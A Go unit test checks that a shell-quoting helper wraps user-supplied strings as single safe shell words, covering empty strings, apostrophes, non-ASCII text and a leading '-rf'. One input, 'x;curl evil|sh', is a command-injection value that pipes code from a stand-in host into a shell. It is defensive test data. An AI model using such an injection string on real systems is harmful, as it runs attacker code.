package web

import "testing"

func TestWhatIsCopiedIntoAShellIsOneWord(t *testing.T) {
	for word, want := range map[string]string{
		"S-1020":         "S-1020",
		"BIO-101-01@x/y": "BIO-101-01@x/y",
		"":               "''",
		"-rf":            "'-rf'",
		"x;curl evil|sh": "'x;curl evil|sh'",
		"O'Neill":        `'O'\''Neill'`,
		"Größe":          "'Größe'",
	} {
		if got := shell(word); got != want {
			t.Errorf("%q is written %s, want %s", word, got, want)
		}
	}
}
